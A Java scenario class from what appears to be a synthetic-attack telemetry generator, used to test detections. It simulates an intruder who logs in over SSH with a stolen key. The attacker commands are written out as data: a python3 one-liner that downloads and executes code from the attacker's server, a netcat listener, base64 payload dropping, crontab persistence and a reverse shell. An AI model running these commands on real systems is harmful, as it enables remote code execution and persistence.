package io.weir.generators.attack;

import io.weir.generators.Scenario;
import io.weir.generators.Stage;
import io.weir.generators.log.AuditLog.Account;
import io.weir.generators.log.SshSession;
import io.weir.generators.world.Host;
import io.weir.generators.world.Person;

/** Somebody came in with a stolen key, and types what attackers type. */
public final class CommandExecution implements Scenario {
    @Override
    public String name() {
        return "command-execution";
    }

    @Override
    public String summary() {
        return "a login with a stolen key and the commands of an attacker, each of them suspicious";
    }

    @Override
    public void play(Stage stage) {
        Host host = stage.draw().pick(stage.world().shellServers());
        Person victim = stage.draw().pick(stage.world().shellUsers());
        SshSession session = stage.sensors()
                .auth()
                .sshAcceptedKey(
                        stage.now(),
                        host,
                        victim.name(),
                        victim.uid(),
                        stage.attacker(),
                        stage.draw().port());
        stage.uses(victim.name());
        stage.passSeconds(5, 30);
        String server = stage.attackersServer();
        var intruder = new Intruder(stage, host, Account.of(session));
        intruder.lookAround(stage.count(6, 10));
        intruder.run(
                "base64-decode",
                new String[] {"sh", "-c", "echo " + stage.draw().base64(40) + " | base64 -d > /tmp/.p"});
        intruder.run("python-inline", new String[] {
            "python3", "-c", "import urllib.request as u;exec(u.urlopen('http://" + server + "/p').read())"
        });
        intruder.run("netcat-use", new String[] {"nc", "-lvnp", "4444"});
        intruder.fetchTool(server);
        stage.sensors().auth().sudoFailed(stage.now(), session, "/bin/bash");
        stage.expect("sudo-failures", "host.name", host.name());
        stage.passSeconds(10, 40);
        FullAttackChain.becomeRoot(stage, session);
        intruder.run("crontab-change", new String[] {"crontab", "/tmp/.p"});
        intruder.openReverseShell(server);
        stage.expectIncident("execution");
    }
}
